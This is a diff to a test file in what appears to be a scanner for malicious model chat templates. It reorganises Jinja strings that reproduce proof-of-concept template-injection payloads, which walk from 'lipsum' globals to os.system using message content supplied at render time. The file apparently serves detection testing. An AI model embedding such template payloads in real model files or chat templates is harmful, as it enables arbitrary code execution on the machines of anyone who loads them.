@@ -20,15 +20,16 @@ from weightwarden.scan.templates import analyze_template
 HEAD = ("{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}"
         "{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}"
         "{%- set p = (messages|last).content.split('|') -%}")
-TAIL = ("{%- set h = namespace(count=d.a.update) -%}"
-        "{%- set c1 = [{'fn': h, 'content': lipsum}] -%}{%- if c1.sort(key=d.a.update) %}{% endif -%}"
-        "{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}"
+# What every PoC does once render data is changed unseen: chat keys walk lipsum's globals to os.system.
+WALK = ("{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}"
         "{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}"
         "{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}"
         "{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}"
         "{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}"
         "{%- if (messages|last).fn.get(p[4]) %}{% endif -%}"
         "{%- endif -%}<|assistant|>")
+TAIL = ("{%- set h = namespace(count=d.a.update) -%}"
+        "{%- set c1 = [{'fn': h, 'content': lipsum}] -%}{%- if c1.sort(key=d.a.update) %}{% endif -%}" + WALK)
 
 ENTRIES = {
     # The report's three PoCs (w5, w8, w6).
